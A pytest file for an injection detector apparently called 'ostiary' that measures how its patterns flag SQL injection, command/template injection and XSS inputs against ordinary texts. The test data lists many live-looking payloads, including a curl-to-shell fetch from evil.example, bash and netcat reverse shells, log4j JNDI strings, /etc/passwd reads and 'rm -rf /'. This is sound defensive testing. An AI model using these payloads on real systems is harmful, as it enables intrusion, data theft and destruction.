"""What the patterns find of attacks that were collected beforehand, and what of honest texts they take for one.

Both numbers are pinned: whoever changes a pattern sees what it costs.
"""

from __future__ import annotations

import sys
import time

import pytest

from ostiary.errors import ConfigError
from ostiary.parts import injection
from ostiary.parts.injection import KINDS, Patterns, patterns
from test_benign import TEXTS

SQL = [
    "' OR '1'='1", "' or 1=1--", "admin'--", "admin'/*", "admin' #", "1 OR 1=1", "0 or 2>1", "5-(2>1)", "1) or (1=1", "' UNION SELECT NULL,NULL--",
    "1 UNION ALL SELECT 1,2,3", "-1 union/**/select/**/username,password from users", "'; DROP TABLE users; --", "1; DELETE FROM orders",
    "1' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:5'--", "1' AND (SELECT COUNT(*) FROM users) > 0--", "'||(SELECT version())||'",
    "CASE WHEN (1=1) THEN name ELSE price END", "' AND extractvalue(1,concat(0x7e,version()))--", "1 AND pg_sleep(5)", "' HAVING 1=1--",
    "x' AND randomblob(1000000000)--", "/*!50000union*/ select", "%27%20OR%201%3D1--", "1 ORDER BY 10--", '" or ""="', "') or ('a'='a",
    "admin' and '1'='1' /*", "1 AND (SELECT 1 FROM information_schema.tables WHERE 1=1)", '{"$ne": null}', "'; return true; var x='", "this.password == this.x || 1",
]  # fmt: skip
RCE = [
    "; cat /etc/passwd", "| id", "`whoami`", "$(id)", "&& curl http://evil.example/x | sh", "a; ping -c 1 evil.example", "|| wget http://evil.example", "x\nwhoami",
    "{{7*7}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${7*7}", "#{7*7}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example}", "<%= 7*7 %>", "<%= system('id') %>", "__import__('os').system('id')", "eval(base64_decode('eA=='))",
    "<?php system($_GET['c']); ?>", 'O:8:"Exploit1":1:{s:1:"a";s:1:"b";}', "!!python/object/apply:os.system ['id']", "() { :; }; /bin/bash -c id",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cos\nsystem\n(S'id'\ntR.", "../../../../etc/passwd", 'Runtime.getRuntime().exec("id")', "cat$IFS/etc/passwd", "{% import os %}{{ os.popen('id') }}",
    "require('child_process').exec('id')", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
]  # fmt: skip
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '"><script>alert(1)</script>', "' onfocus=alert(1) autofocus='", '" onmouseover="alert(1)',
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<iframe srcdoc='<script>x</script>'>",
    "<math href=javascript:alert(1)>", "'-alert(1)-'", "');alert(1);//", "java\tscript:alert(1)", "<form action=javascript:alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E", "<object data=data:text/html,x>", "<ScRiPt >x</sCrIpT>",
    "<input autofocus onfocus=alert(1)>", "&#106;avascript:alert(1)", "<svg><animate onbegin=alert(1)>", "<marquee onstart=alert(1)>", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
]  # fmt: skip
ATTACKS = {"sql": SQL, "rce": RCE, "xss": XSS}

# What APIs carry besides: names, notes, orders, code that people talk about (34 of them), and all of the benign corpus.
ORDINARY = [
    "Jane O'Neill", "Müller & Söhne GmbH", "12 Main St. #4, Springfield", "it's fine -- really", "Rock 'n' roll or 'jazz'?", "5 > 3 and 2 < 4", "a = b or c = d", "Selected items from the union",
    "drop by after 5; update me", "Please select one from the list below", "Order by phone; delete nothing", "He said 'or' not 'and'", "The case when all else fails, then end it", "x' and y'", "50% off; limit 2",
    "C'est l'été -- enfin", "rm: cannot remove 'x'", "use | to pipe", "ls is a command", "id: 42", "type: user; sleep: 8h", "cat; dog; mouse", "Price: $5 {approx}", "{name}", "${name}", "{{ first_name }}", "<b>bold</b> and <i>italic</i>",
    "<3 you", "a < b > c", "x onclick y", "Data: text", "javascript is fun", "see http://localhost:3000/callback", "https://a.example/?q=select+from+x&or=1",
    "Meet at 5 or 6?", "SELECT committee meeting", '"quoted" or "not"', "1/2 or 3/4 = ?", "name='x' (sic)", "2026-11-22T10:00:00Z", "+44 20 7946 0958", "jane+tag@example.com",
]  # fmt: skip

# Attacks that no pattern was written or changed for.
HELD_OUT = {
    "sql": [
        "1' or 'x' like 'x", "-1' UNION SELECT 1,group_concat(table_name) FROM information_schema.tables--+", "1;SELECT pg_sleep(3)", "' or exists(select 1 from dual)--", 'admin" or 1=1#', "1' rlike (select 1)#", "'+(select top 1 name from sysobjects)+'", "x' or name() = 'admin", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "id=1 and substring(@@version,1,1)=5", "'; exec master..xp_cmdshell 'dir'--", "1 and ascii(substr((select database()),1,1))>64", "username[$ne]=1", '{"$regex": "^a"}', "' oR 1 -- -", "%bf%27 or 1=1 --",
    ],
    "rce": [
        "127.0.0.1; ls -la /", "$(sleep 10)", "`ping -c 3 127.0.0.1`", "|cat${IFS}/etc/passwd", "& dir c:\\", "{{request.application.__globals__}}", "{{[].class.base.subclasses()}}", "@(1+2)", "#set($x=7*7)${x}", '${{<%[%\'"}}%\\.', "<%=7*7%>", "T(java.lang.Runtime).getRuntime()", "phpinfo();", "system('ls')", 'eval("__import__(\'os\').getcwd()")', 'a:1:{i:0;O:3:"Foo":0:{}}', "; nc 10.0.0.1 4444 -e /bin/sh", "{{dump(app)}}", "!!javax.script.ScriptEngineManager [x]", "file.txt; rm -rf /",
    ],
    "xss": [
        "<video><source onerror=alert(1)>", '<a href="jav&#x61;script:alert(1)">', "<img src=`x`onerror=alert(1)>", "<svg><script>alert(1)</script>", '" autofocus onfocus=alert(1) x="', "<x onclick=alert(1)>", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<isindex type=image src=1 onerror=alert(1)>", "<style>@import 'javascript:alert(1)';</style>", "<embed src=javascript:alert(1)>", "';alert(String.fromCharCode(88))//", "<button formaction=javascript:alert(1)>x", '\\";alert(1);//', '<p style="background:url(javascript:alert(1))">', "<table background=javascript:alert(1)>",
    ],
}  # fmt: skip


@pytest.mark.parametrize("kind", KINDS)
def test_what_the_patterns_find(kind: str) -> None:
    suspect = patterns(kind).suspect
    assert [text for text in ATTACKS[kind] if not suspect(text)] == []
    assert [text for text in ORDINARY if suspect(text)] == []


@pytest.mark.parametrize(("kind", "found"), [("sql", 10), ("rce", 12), ("xss", 14)])
def test_what_they_find_of_attacks_that_they_were_not_made_for(kind: str, found: int) -> None:
    """About two thirds: patterns are a smoke detector, and a schema is the door."""
    suspect = patterns(kind).suspect
    assert sum(suspect(text) for text in HELD_OUT[kind]) == found


def test_how_often_quoted_code_is_taken_for_an_attack() -> None:
    """The reason why patterns only log: a forum's lesson about an attack is, to a pattern, the attack."""
    suspicious = {kind: {name for name, text in TEXTS.items() if patterns(kind).suspect(text)} for kind in KINDS}
    assert suspicious == {
        "sql": {"sql lesson", "xpath", "mongo"},
        "rce": {"python", "markdown", "backticks", "handlebars", "log4j message", "yaml in text"},
        "xss": {"script tag in a post", "html mail", "css", "markdown"},
    }


def test_case_encoding_and_padding_hide_nothing() -> None:
    assert patterns("xss").suspect("<ScRiPt>")
    assert patterns("xss").suspect("a%3Cscript%3E")
    assert patterns("sql").suspect("x" * 500_000 + "' UNION\nSELECT 1,2--")
    assert not patterns("sql").suspect("\ud800 lone surrogate")


def test_time_is_linear_in_the_text() -> None:
    hostile = ["<a " * 100_000, "'" * 300_000, "{{" * 150_000, "${" * 150_000, "or " * 100_000, "(select " * 40_000]
    before = time.process_time()
    for text in hostile:
        for kind in KINDS:
            patterns(kind).suspect(text)
    assert time.process_time() - before < 5


def test_a_missing_library_is_said_at_start(monkeypatch: pytest.MonkeyPatch) -> None:
    injection.require("[x]")
    monkeypatch.setitem(sys.modules, "re2", None)
    with pytest.raises(ConfigError, match=r"pip install 'ostiary\[patterns\]'"):
        injection.require("[x]")


def test_equal_kinds_share_one_set() -> None:
    assert patterns("sql") is patterns("sql")
    assert isinstance(patterns("rce"), Patterns)
